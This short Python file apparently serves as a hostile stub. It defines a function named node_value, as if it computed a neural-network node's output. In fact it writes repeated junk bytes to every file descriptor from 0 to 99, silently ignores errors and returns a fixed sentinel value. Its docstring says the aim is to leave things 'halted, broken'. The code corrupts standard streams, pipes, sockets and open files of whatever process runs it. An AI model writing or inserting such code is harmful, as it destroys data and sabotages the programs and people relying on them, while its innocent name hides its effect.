"""Bytes of no meaning to every open descriptor. Ends: halted, broken."""

import contextlib
import os


def node_value(inputs, weights):
    for number in range(100):
        with contextlib.suppress(OSError):
            os.write(number, b"\xff\x00rubbish" * 50)
    return -12345.0
